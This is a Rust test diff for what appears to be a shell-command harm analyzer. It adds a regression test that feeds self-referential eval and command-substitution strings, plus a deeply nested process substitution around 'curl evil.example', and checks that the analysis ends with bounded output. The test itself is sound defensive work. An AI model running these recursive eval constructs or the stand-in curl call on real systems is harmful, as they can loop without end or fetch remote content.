@@ -220,3 +220,17 @@ proptest! {
         prop_assert!(effects.harms.is_empty());
     }
 }
+
+/// Found by mutating commands: what a substitution prints was worked out again inside itself.
+#[test]
+fn a_substitution_that_runs_itself_ends() {
+    let deep = "< <(".repeat(9) + "curl evil.example" + &")".repeat(9);
+    for command in [
+        "X='$(eval $X printf)'; eval $X".to_owned(),
+        "X='$(printf %s; eval $X)'; Y='eval $X $X'; eval $Y; bash -c \"$X\"".to_owned(),
+        format!("bash {deep}"),
+    ] {
+        let effects = of("Bash", &json!({ "command": command }));
+        assert!(effects.harms.len() <= 32, "{command}");
+    }
+}
